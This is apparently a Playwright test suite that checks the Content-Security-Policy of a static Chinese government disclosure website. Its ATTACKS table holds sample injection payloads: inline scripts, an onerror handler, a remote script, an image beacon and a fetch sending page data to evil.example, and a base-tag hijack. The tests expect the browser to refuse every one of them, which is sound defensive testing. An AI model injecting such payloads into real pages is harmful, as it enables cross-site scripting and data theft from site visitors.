"""The site under its own headers in a browser: nothing the theme or we do is refused, everything an intruder would do is."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from browser.checks import policy_violations
from site_tools import Product, Project, contents, header_rules, headers_of, served

pytestmark = pytest.mark.browser

PAGES = {
    "home": "index.html",
    "search": "search.html?q=砂石",
    "map": "map.html",
    "kind": "penalties/index.html",
    "filtered": "penalties/index.html?q=砂石",
    "year": "permits/list/2024.html",
    "shelf": "responsibilities/list/02.html",
    "penalty": "penalties/cf-2024-001.html",
    "responsibility": "responsibilities/cf-004.html",
    "report": "reports/fazhi-2024.html",
    "statistics": "statistics/2024.html",
    "years": "statistics/index.html",
    "board": "board/index.html",
    "law": "laws/tudi-guanli-fa-2019.html",
    "article": "laws/cited/gongzhi-renyuan-zhengwu-chufen-fa-2020.39-1.html",
    "written": "guide.html",
    "gone": "penalties/nothing/here.html",
}


@pytest.fixture(scope="module", params=["/", "/gongshi/"], ids=["root", "column"])
def base(request: pytest.FixtureRequest, product: Product, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A site served at the root of a host, and one under a path, each told so in data/site.yml (404.html must know)."""
    project = product.example(tmp_path_factory.mktemp("policy") / "project")
    project.edit("data/site.yml", "https://huangzhong.example.cn/", f"https://bureau.example{request.param}")
    project.build().must(0)
    with served(project.site, request.param) as address:
        yield address


@pytest.fixture(params=["dark"])
def context(browser: Browser, request: pytest.FixtureRequest) -> Iterator[BrowserContext]:
    with browser.new_context(
        locale="zh-CN", color_scheme=request.param, viewport={"width": 1280, "height": 900}
    ) as made:
        yield made


def test_nothing_of_any_page_is_refused(context: BrowserContext, base: str) -> None:
    page = context.new_page()
    refused = policy_violations(page)
    for name, path in PAGES.items():
        answer = page.goto(base + path, wait_until="networkidle")
        assert answer is not None
        assert answer.headers["content-security-policy"].startswith("default-src 'self'; script-src 'self' 'sha256-")
        use(page)
        assert refused == [], name


def use(page: Page) -> None:
    """Do what a reader does on any page: change the colours, search, go through it by keyboard, print."""
    scheme = page.locator("body").get_attribute("data-md-color-scheme")
    page.get_by_role("button", name="切换到").click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", scheme or "")
    for link in page.locator(".gs-toc a, .md-sidebar .md-nav--secondary a:visible").all()[:2]:
        link.click()
    page.keyboard.press("/")
    page.keyboard.type("砂石")
    expect(page.locator("[role=option]").first).to_be_visible()
    page.keyboard.press("Escape")
    for _ in range(5):
        page.keyboard.press("Tab")
    page.emulate_media(media="print")
    page.emulate_media(media="screen")


ATTACKS = {
    "an inline script": "() => { const made = document.createElement('script'); made.textContent = 'window.stolen = 1'; document.body.append(made); }",
    "a handler": "() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.stolen = 1\">'); }",
    "a script from elsewhere": "() => { const made = document.createElement('script'); made.src = 'https://evil.example/x.js'; document.body.append(made); }",
    "a style": "() => { document.body.insertAdjacentHTML('beforeend', '<p style=\"position:fixed\">x</p>'); }",
    "a picture from elsewhere": "() => { new Image().src = 'https://evil.example/?' + document.title; }",
    "a request elsewhere": "() => fetch('https://evil.example/').catch(() => 0)",
    "an object": "() => { document.body.insertAdjacentHTML('beforeend', '<object data=\"x.swf\"></object>'); }",
    "another base": "() => { document.head.insertAdjacentHTML('afterbegin', '<base href=\"https://evil.example/\">'); }",
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("has_headers", [True, False], ids=["headers", "page-alone"])
def test_what_an_intruder_would_do_is_refused(
    browser: Browser, example: Project, address: str, attack: str, has_headers: bool
) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        if not has_headers:
            page.route("**/*.html", lambda route: route.fulfill(body=_bytes(example, route.request.url, address)))
        refused = policy_violations(page)
        answer = page.goto(address + PAGES["penalty"])
        assert answer is not None
        assert ("content-security-policy" in answer.headers) == has_headers
        page.evaluate(ATTACKS[attack])
        page.wait_for_timeout(100)
        assert refused != []
        assert page.evaluate("window.stolen") is None
        assert page.evaluate("document.baseURI") == address + PAGES["penalty"]


def _bytes(example: Project, url: str, address: str) -> bytes:
    return (example.site / url.removeprefix(address)).read_bytes()


def test_no_other_site_may_frame_a_page(browser: Browser, address: str, tmp_path: Path) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        page.set_content(f'<iframe src="{address}guide.html"></iframe>')
        page.wait_for_timeout(300)
        assert "公开指南" not in (page.frames[1].content() if len(page.frames) > 1 else "")


PROBE = """setTimeout(() => {
  try { (0, eval)("1"); document.title = "ran"; } catch (error) { document.title = error.name; }
}, 0);"""


def test_a_string_is_never_run_as_a_program(browser: Browser, address: str) -> None:
    """Tried by a script of the site's own host."""
    with browser.new_context() as context:
        page = context.new_page()
        page.route("**/page.js", lambda route: route.fulfill(body=PROBE, content_type="text/javascript"))
        page.goto(address + "guide.html")
        expect(page).to_have_title("EvalError")


def test_files_named_by_content_are_kept_and_pages_asked_for_again(example: Project) -> None:
    rules = header_rules(example.site)
    for path in contents(example.site):
        kept = headers_of(rules, f"/{path}").get("Cache-Control", "")
        named = path.startswith("assets/gongshi/index/") or (".min." in path and path.endswith((".js", ".css")))
        if "/lunr/" not in path:
            assert kept == ("public, max-age=31536000, immutable" if named else ""), path
